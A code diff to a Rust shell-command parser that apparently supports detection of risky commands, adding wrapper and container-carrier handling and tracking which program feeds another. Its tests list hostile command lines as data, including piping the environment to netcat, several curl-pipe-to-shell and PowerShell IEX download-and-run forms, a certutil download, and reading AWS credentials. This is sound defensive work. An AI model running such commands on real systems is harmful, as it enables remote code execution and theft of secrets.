@@ -9,9 +9,28 @@ const DEPTH: u32 = 3;
 const MAX_COMMANDS: usize = 512;
 /// Programs that run what follows them.
 const WRAPPERS: &[&str] = &[
-    "sudo", "doas", "env", "nohup", "time", "exec", "command", "xargs", "then", "do", "else", "if",
-    "timeout", "nice", "setsid", "busybox",
+    "sudo",
+    "doas",
+    "env",
+    "nohup",
+    "time",
+    "exec",
+    "command",
+    "xargs",
+    "then",
+    "do",
+    "else",
+    "if",
+    "timeout",
+    "nice",
+    "setsid",
+    "busybox",
+    "start",
+    "start-process",
+    "call",
 ];
+/// Programs that run elsewhere what follows `--`.
+const CARRIERS: &[&str] = &["kubectl", "oc", "docker", "podman", "nsenter", "wsl"];
 const SHELLS: &[&str] = &[
     "sh",
     "bash",
@@ -20,10 +39,8 @@ const SHELLS: &[&str] = &[
     "ksh",
     "fish",
     "cmd",
-    "cmd.exe",
     "powershell",
     "pwsh",
-    "powershell.exe",
 ];
 
 /// One program with its words.
@@ -36,8 +53,10 @@ pub struct Command {
     pub by_path: Option<String>,
     /// Files that output is redirected to.
     pub writes: Vec<String>,
-    /// Its input comes from the command before it.
+    /// Its input comes from the command before it, or from a file.
     pub piped: bool,
+    /// The program before it in the pipe, or the one inside `$(…)`, `<(…)` or parentheses.
+    pub after: String,
 }
 
 /// The commands in `line`, in order.
@@ -54,14 +73,14 @@ pub fn from_words(words: &[String]) -> Vec<Command> {
         words: words.to_vec(),
         ..Command::default()
     };
-    finish(&mut command, false, DEPTH, &mut found);
+    finish(&mut command, false, DEPTH, &mut None, &mut found);
     found
 }
 
 fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
     let mut command = Command::default();
     let mut word = String::new();
-    let (mut quote, mut redirect) = (None, false);
+    let (mut quote, mut redirect, mut fed) = (None, false, None);
     let mut chars = line.chars().peekable();
     while let Some(char) = chars.next() {
         if found.len() >= MAX_COMMANDS {
@@ -75,7 +94,9 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 chars.next();
             }
             end_word(&mut word, &mut redirect, &mut command);
-            finish(&mut command, false, depth, found);
+            let outer = !command.words.is_empty();
+            finish(&mut command, false, depth, &mut fed, found);
+            fed = found.len().checked_sub(1).filter(|_| outer);
             quote = None;
             continue;
         }
@@ -98,7 +119,9 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 }
                 end_word(&mut word, &mut redirect, &mut command);
                 let pipe = char == '|' && chars.peek() != Some(&'|');
-                finish(&mut command, pipe, depth, found);
+                let outer = char == '(' && !command.words.is_empty();
+                finish(&mut command, pipe, depth, &mut fed, found);
+                fed = found.len().checked_sub(1).filter(|_| outer);
             }
             (None, '>') => {
                 if word.chars().all(|digit| digit.is_ascii_digit()) {
@@ -107,7 +130,10 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 end_word(&mut word, &mut redirect, &mut command);
                 redirect = true;
             }
-            (None, '<') => end_word(&mut word, &mut redirect, &mut command),
+            (None, '<') => {
+                end_word(&mut word, &mut redirect, &mut command);
+                command.piped = true;
+            }
             (None, space) if space.is_whitespace() => {
                 end_word(&mut word, &mut redirect, &mut command)
             }
@@ -115,7 +141,7 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
         }
     }
     end_word(&mut word, &mut redirect, &mut command);
-    finish(&mut command, false, depth, found);
+    finish(&mut command, false, depth, &mut fed, found);
 }
 
 fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
@@ -133,12 +159,16 @@ fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
     }
 }
 
-fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command>) {
-    let next = Command {
-        piped: pipe,
-        ..Command::default()
-    };
-    let mut done = std::mem::replace(command, next);
+/// Ends `command`. `fed` is the position of one that takes what this one says as its input.
+fn finish(
+    command: &mut Command,
+    pipe: bool,
+    depth: u32,
+    fed: &mut Option<usize>,
+    found: &mut Vec<Command>,
+) {
+    let mut done = std::mem::take(command);
+    command.piped = pipe;
     while let Some(first) = done.words.first() {
         let program = base(first);
         let assignment = first.split_once('=').is_some_and(|(name, _)| {
@@ -149,7 +179,10 @@ fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command
         });
         let option =
             first.starts_with('-') && found.last().is_none_or(|last| last.program.is_empty());
-        if WRAPPERS.contains(&program.as_str()) || assignment || option {
+        // `env` alone shows the environment.
+        let wrapper = done.words.len() > 1 && WRAPPERS.contains(&program.as_str());
+        let time = first.bytes().all(|byte| b"*/,-0123456789".contains(&byte));
+        if wrapper || assignment || option || time {
             done.words.remove(0);
         } else {
             let system = ["/bin/", "/usr/", "/sbin/", "/opt/"]
@@ -164,6 +197,9 @@ fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command
     if done.program.is_empty() && done.writes.is_empty() {
         return;
     }
+    if pipe {
+        command.after.clone_from(&done.program);
+    }
     let script = SHELLS.contains(&done.program.as_str()) || done.program == "eval";
     let inner: Vec<String> = if script && depth > 0 {
         done.words
@@ -174,15 +210,32 @@ fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command
     } else {
         Vec::new()
     };
+    // `cmd /c a b`, `kubectl exec pod -- a b`: the words that follow are a command.
+    let mark = |word: &String| match CARRIERS.contains(&done.program.as_str()) {
+        true => word == "--",
+        false => script && ["/c", "/k", "-c", "-command"].contains(&word.to_lowercase().as_str()),
+    };
+    let carried = done.words.iter().position(mark);
+    let carried = carried.and_then(|at| done.words.get(at + 1..));
+    let carried = carried
+        .filter(|words| depth > 0 && words.first().is_some_and(|first| !first.contains(' ')));
+    let mut carried = Command {
+        words: carried.unwrap_or_default().to_vec(),
+        ..Command::default()
+    };
+    if let Some(outer) = fed.take().and_then(|at| found.get_mut(at)) {
+        outer.after.clone_from(&done.program);
+    }
     found.push(done);
+    finish(&mut carried, false, depth.saturating_sub(1), fed, found);
     inner.iter().for_each(|line| lex(line, depth - 1, found));
 }
 
 fn base(path: &str) -> String {
-    path.rsplit(['/', '\\'])
-        .next()
-        .unwrap_or(path)
-        .to_ascii_lowercase()
+    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
+    let name = name.to_ascii_lowercase();
+    let plain = name.strip_suffix(".exe").unwrap_or(&name);
+    plain.to_owned()
 }
 
 #[cfg(test)]
@@ -230,6 +283,23 @@ mod tests {
             r"type C:\Users\a\.aws\credentials",
         );
         check("echo 'a | b' && ls", "echo a | b; ls ");
+        check("env | nc h 1 < f", "env ; |nc h,1,f");
+        check("*/5 * * * * curl x | sh", "curl x; |sh ");
+        check(
+            "cmd.exe /c certutil.exe -f x",
+            "cmd /c,certutil.exe,-f,x; certutil -f,x",
+        );
+        check("kubectl exec p -- cat f", "kubectl exec,p,--,cat,f; cat f");
+        for line in [
+            "curl x | sudo sh",
+            "bash -c \"$(curl -fsSL x)\"",
+            "bash <(curl x)",
+            "IEX (curl.exe x)",
+            "sh -c `curl x`",
+        ] {
+            let runs = |command: &Command| command.after == "curl" && command.program != "curl";
+            assert!(commands(line).iter().any(runs), "{line}");
+        }
     }
 
     #[test]
